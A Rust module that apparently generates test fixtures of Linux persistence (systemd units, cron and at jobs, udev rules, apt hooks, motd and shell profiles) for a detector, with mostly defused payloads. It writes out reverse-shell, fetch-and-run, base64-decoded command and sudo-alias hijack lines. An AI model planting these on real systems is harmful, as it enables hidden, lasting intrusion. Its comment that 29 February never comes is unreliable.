//! Things that start again: units, generators, init scripts, device rules, timetables, hooks, greetings, profiles.

use super::names::{
    encoded, fetch_and_run, hidden_folder, kept_folder, nowhere, random_name, service, system_folder,
};
use super::{Maker, Plant, Step};
use crate::random::Random;

pub(super) const MAKERS: &[Maker] = &[
    (39, 6, unit),
    (40, 3, generator),
    (42, 3, init_script),
    (43, 3, device_rule),
    (46, 6, timetable),
    (47, 3, later_job),
    (50, 4, package_hook),
    (53, 3, greeting),
    (65, 5, profile),
];

/// A script that would do nothing: it ends at its first line.
fn script(body: &str) -> String {
    format!("#!/bin/sh\nexit 0\n{body}\n")
}

fn unit(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let program = format!("{}/{}", system_folder(random), service(random));
    let hidden = format!("{}/{}", kept_folder(random), random_name(random));
    let wanted = |unit: &str| {
        let link = format!("/etc/systemd/system/multi-user.target.wants/{unit}");
        Step::Link(link, format!("/etc/systemd/system/{unit}"))
    };
    let text = |start: &str| {
        format!(
            "[Unit]\nDescription={name} service\n[Service]\nExecStart={start}\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
        )
    };
    match shape {
        0 => {
            let path = format!("/lib/systemd/system/{name}.service");
            Plant::new(39, "a unit and its program among the system's own, of no package")
                .helper(&program)
                .file(&path, text(&program), 0o644)
                .step(Step::Link(
                    format!("/etc/systemd/system/multi-user.target.wants/{name}.service"),
                    path.clone(),
                ))
                .expect(path)
                .expect(program)
        }
        1 => {
            let path = format!("/etc/systemd/system/{name}.service");
            Plant::new(39, "a unit that starts a program from a hidden folder")
                .helper(&hidden)
                .file(&path, text(&format!("-{hidden} --daemon")), 0o644)
                .step(wanted(&format!("{name}.service")))
                .expect(path)
                .expect(hidden)
        }
        2 => {
            let path = format!(
                "/etc/systemd/system/cron.service.d/{}.conf",
                random.pick(&["override", "10-limits"])
            );
            Plant::new(39, "a drop-in that adds a command to an ordinary service")
                .helper(&hidden)
                .file(&path, format!("[Service]\nExecStartPre=-{hidden}\n"), 0o644)
                .expect(path)
                .expect(hidden)
        }
        3 => {
            let path = format!("/etc/systemd/system/{name}.timer");
            let service = format!("/etc/systemd/system/{name}.service");
            let command = fetch_and_run(random).replace('%', "%%");
            Plant::new(39, "a timer that fetches and runs something")
                .file(
                    &path,
                    "[Timer]\nOnCalendar=*-02-29 03:17:00\n[Install]\nWantedBy=timers.target\n",
                    0o644,
                )
                .file(&service, format!("[Service]\nType=oneshot\nExecStart=/bin/sh -c '{command}'\n"), 0o644)
                .step(Step::Link(
                    format!("/etc/systemd/system/timers.target.wants/{name}.timer"),
                    path.clone(),
                ))
                .expect(path)
                .expect(service)
        }
        4 => {
            let path = format!("/etc/systemd/system/{name}.path");
            let service = format!("/etc/systemd/system/{name}.service");
            let shell =
                format!("/bin/bash -c 'bash -i >& /dev/tcp/{}/9 0>&1'", nowhere(random).replace(":9", ""));
            Plant::new(39, "a path unit that opens a shell to somewhere when a file appears")
                .file(
                    &path,
                    "[Path]\nPathExists=/nonexistent/trigger\n[Install]\nWantedBy=paths.target\n",
                    0o644,
                )
                .file(&service, format!("[Service]\nExecStart={shell}\n"), 0o644)
                .step(Step::Link(format!("/etc/systemd/system/paths.target.wants/{name}.path"), path.clone()))
                .expect(path)
                .expect(service)
        }
        _ => {
            let path = "/usr/lib/systemd/system/rsyslog.service.d/local.conf".to_owned();
            Plant::new(39, "a vendor drop-in that replaces a service's program")
                .helper(&program)
                .file(&path, format!("[Service]\nExecStart=\nExecStart={program} -n\n"), 0o644)
                .expect(path)
                .expect(program)
        }
    }
}

fn generator(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let folder = [
        "/usr/lib/systemd/system-generators",
        "/etc/systemd/system-generators",
        "/usr/local/lib/systemd/system-generators",
    ][shape % 3];
    let path = format!("{folder}/{name}");
    let plant =
        Plant::new(40, "a generator of no package, which runs before every unit").expect(path.clone());
    match shape {
        0 => plant.helper(path),
        _ => plant.file(path, script(&format!("{}/{} &", hidden_folder(random), name)), 0o755),
    }
}

fn init_script(shape: usize, random: &mut Random) -> Plant {
    let hidden = format!("{}/{}", kept_folder(random), random_name(random));
    match shape {
        0 => {
            let path = format!("/etc/init.d/{}", service(random));
            let link = format!("/etc/rc2.d/S99{}", path.rsplit('/').next().unwrap_or_default());
            Plant::new(42, "an init script that starts a hidden program")
                .helper(&hidden)
                .file(&path, script(&format!("case \"$1\" in start) {hidden} & ;; esac")), 0o755)
                .step(Step::Link(link, path.clone()))
                .expect(path)
                .expect(hidden)
        }
        1 => {
            let command = fetch_and_run(random);
            Plant::new(42, "rc.local fetches and runs something")
                .file("/etc/rc.local", script(&command), 0o755)
                .expect("/etc/rc.local")
        }
        _ => Plant::new(42, "a line in rc.local starts a hidden program")
            .helper(&hidden)
            .file(
                "/etc/rc.local",
                format!("#!/bin/sh -e\nexit 0\n(sleep 30; {hidden} >/dev/null 2>&1) &\n"),
                0o755,
            )
            .expect("/etc/rc.local")
            .expect(hidden),
    }
}

fn device_rule(shape: usize, random: &mut Random) -> Plant {
    let number = 10 + random.below(89);
    let name = service(random);
    let hidden = format!("{}/{}", kept_folder(random), random_name(random));
    match shape {
        0 => {
            let path = format!("/etc/udev/rules.d/{number}-{name}.rules");
            Plant::new(43, "a device rule that runs a hidden program at every boot")
                .helper(&hidden)
                .file(
                    &path,
                    format!("SUBSYSTEM==\"mem\", KERNEL==\"random\", ACTION==\"add\", RUN+=\"{hidden}\"\n"),
                    0o644,
                )
                .expect(path)
                .expect(hidden)
        }
        1 => {
            let path = format!("/lib/udev/rules.d/{number}-{name}.rules");
            let command = format!("echo {}|base64 -d|sh", encoded("exit 0; id"));
            Plant::new(43, "a device rule among the system's own that runs an encoded command")
                .file(
                    &path,
                    format!("ACTION==\"add\", ENV{{MAJOR}}==\"1\", RUN+=\"/bin/sh -c '{command}'\"\n"),
                    0o644,
                )
                .expect(path)
        }
        _ => {
            let path = format!("/etc/udev/rules.d/{number}-net.rules");
            let program = format!("/usr/lib/udev/{name}");
            Plant::new(43, "a device rule that asks a program of no package")
                .helper(&program)
                .file(
                    &path,
                    format!(
                        "# network names\nSUBSYSTEM==\"net\", ACTION==\"add\", PROGRAM=\"{program} %k\"\n"
                    ),
                    0o644,
                )
                .expect(path)
                .expect(program)
        }
    }
}

fn timetable(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let command = fetch_and_run(random);
    // A date that does not come: the 29th of February.
    let minute = random.below(60);
    match shape {
        0 => {
            let path = format!(
                "/etc/cron.d/{}",
                random.pick(&["php-session", "sysstat2", "popularity", "ntp-sync"])
            );
            Plant::new(46, "a system timetable fetches and runs something")
                .file(&path, format!("{minute} 3 29 2 * root {command}\n"), 0o644)
                .expect(path)
        }
        1 => {
            let path = format!("/var/spool/cron/crontabs/{}", random.pick(&["www-data", "nobody"]));
            let program = format!("/dev/shm/.{}", random_name(random));
            Plant::new(46, "a service account's timetable starts a program from memory-backed storage")
                .helper(&program)
                .file(&path, format!("{minute} 4 29 2 * {program} >/dev/null 2>&1\n"), 0o600)
                .expect(path)
                .expect(program)
        }
        2 => {
            let path = format!("/etc/cron.hourly/{name}");
            Plant::new(46, "an hourly script opens a way in")
                .file(&path, script(&command), 0o755)
                .expect(path)
        }
        3 => {
            let program = format!("{}/{}", kept_folder(random), random_name(random));
            Plant::new(46, "a line at the end of the main timetable starts a hidden program")
                .helper(&program)
                .step(Step::Append("/etc/crontab".into(), format!("{minute} 5 29 2 * root {program}\n")))
                .expect("/etc/crontab")
                .expect(program)
        }
        4 => {
            let path = format!("/etc/cron.d/.{}", random_name(random));
            Plant::new(46, "root's own timetable fetches and runs something")
                .file(
                    "/var/spool/cron/crontabs/root",
                    format!("# m h dom mon dow command\n{minute} 3 29 2 * {command}\n"),
                    0o600,
                )
                .expect("/var/spool/cron/crontabs/root")
                .expect(path)
        }
        _ => {
            let path = format!("/etc/cron.d/{name}");
            Plant::new(46, "a timetable with a hidden folder in its search path and a decoded command")
                .file(
                    &path,
                    format!(
                        "SHELL=/bin/bash\n{minute} 3 29 2 * root python3 -c \"exec(__import__('base64').b64decode('{}'))\"\n",
                        encoded("raise SystemExit\nimport os; os.system('id')")
                    ),
                    0o644,
                )
                .expect(path)
        }
    }
}

fn later_job(shape: usize, random: &mut Random) -> Plant {
    let queue = random.pick(&["a", "b"]);
    let path = format!("/var/spool/cron/atjobs/{queue}{}01f{}", random.hex(4), random.hex(5));
    let program = format!("{}/{}", kept_folder(random), random_name(random));
    let body = match shape {
        0 => fetch_and_run(random),
        1 => format!("{program} &"),
        _ => format!("echo {} | base64 -d | bash", encoded("exit 0; id")),
    };
    let account = if shape == 1 { 33 } else { 0 };
    let plant = Plant::new(47, "a job for later that starts something")
        .file(
            &path,
            format!("#!/bin/sh\n# atrun uid={account} gid={account}\n# mail root 0\numask 22\ncd / || exit 1\nexit 0\n{body}\n"),
            0o700,
        )
        .step(Step::Own(path.clone(), account, account, 0o700))
        .expect(path);
    if shape == 1 { plant.helper(&program).expect(program) } else { plant }
}

fn package_hook(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let path = format!("/etc/apt/apt.conf.d/{:02}{name}", random.below(99));
    match shape {
        0 => Plant::new(50, "the package manager runs an encoded command")
            .file(
                &path,
                format!(
                    "APT::Update::Pre-Invoke {{\"echo {} | base64 -d | sh\";}};\n",
                    encoded("exit 0; id")
                ),
                0o644,
            )
            .expect(path),
        1 => {
            let program = format!("{}/{}", kept_folder(random), random_name(random));
            Plant::new(50, "the package manager starts a hidden program")
                .helper(&program)
                .file(&path, format!("DPkg\n{{\n  Post-Invoke {{ \"{program} || true\"; }};\n}}\n"), 0o644)
                .expect(path)
                .expect(program)
        }
        2 => {
            let to = format!("/etc/dpkg/dpkg.cfg.d/{name}");
            let command = fetch_and_run(random);
            Plant::new(50, "dpkg fetches and runs something")
                .file(&to, format!("post-invoke={command}\n"), 0o644)
                .expect(to)
        }
        _ => {
            let command = fetch_and_run(random).replace('"', "'");
            Plant::new(50, "a line at the end of an ordinary setting of the package manager")
                .step(Step::Append(
                    "/etc/apt/apt.conf.d/01autoremove".into(),
                    format!("APT::Update::Post-Invoke-Success:: \"{command}\";\n"),
                ))
                .expect("/etc/apt/apt.conf.d/01autoremove")
        }
    }
}

fn greeting(shape: usize, random: &mut Random) -> Plant {
    let command = fetch_and_run(random);
    match shape {
        0 => {
            let path = format!("/etc/update-motd.d/{:02}-{}", random.below(99), service(random));
            Plant::new(53, "a greeting script fetches and runs something")
                .file(&path, script(&format!("{command} &")), 0o755)
                .expect(path)
        }
        1 => Plant::new(53, "a line in the ordinary greeting script")
            .step(Step::Append(
                "/etc/update-motd.d/10-uname".into(),
                format!("exit 0\n({command}) >/dev/null 2>&1 &\n"),
            ))
            .expect("/etc/update-motd.d/10-uname"),
        _ => {
            let path = format!("/etc/update-motd.d/{:02}-header", random.below(9));
            let hidden = format!("{}/{}", kept_folder(random), random_name(random));
            Plant::new(53, "a greeting script starts a hidden program")
                .helper(&hidden)
                .file(&path, script(&format!("nohup {hidden} >/dev/null 2>&1 &")), 0o755)
                .expect(path)
                .expect(hidden)
        }
    }
}

fn profile(shape: usize, random: &mut Random) -> Plant {
    let command = fetch_and_run(random);
    let hidden = format!("{}/{}", kept_folder(random), random_name(random));
    match shape {
        0 => {
            let path = format!("/etc/profile.d/{}.sh", service(random));
            Plant::new(65, "a profile of no package fetches and runs something")
                .file(&path, format!("return 0\n({command}) >/dev/null 2>&1 &\n"), 0o644)
                .expect(path)
        }
        1 => Plant::new(65, "root's shell starts a hidden program")
            .helper(&hidden)
            .step(Step::Append(
                "/root/.bashrc".into(),
                format!("[ -n \"$NEVER\" ] && (setsid {hidden} >/dev/null 2>&1 &)\n"),
            ))
            .expect("/root/.bashrc")
            .expect(hidden),
        2 => {
            let program = format!("/var/tmp/.{}/{}", random.hex(4), random_name(random));
            Plant::new(65, "an alias puts another program before sudo")
                .helper(&program)
                .step(Step::Append(
                    "/root/.profile".into(),
                    format!("alias {}='{program}'\n", random.pick(&["sudo", "ssh", "su"])),
                ))
                .expect("/root/.profile")
                .expect(program)
        }
        3 => Plant::new(65, "every shell of the system would open a way out")
            .step(Step::Append(
                "/etc/bash.bashrc".into(),
                format!("[ -n \"$NEVER\" ] && {{ {command} ; }}\n"),
            ))
            .expect("/etc/bash.bashrc"),
        _ => Plant::new(65, "a logout file runs an encoded command")
            .file(
                "/root/.bash_logout",
                format!("return 0\neval \"$(echo {} | base64 -d)\"\n", encoded("id")),
                0o644,
            )
            .expect("/root/.bash_logout"),
    }
}
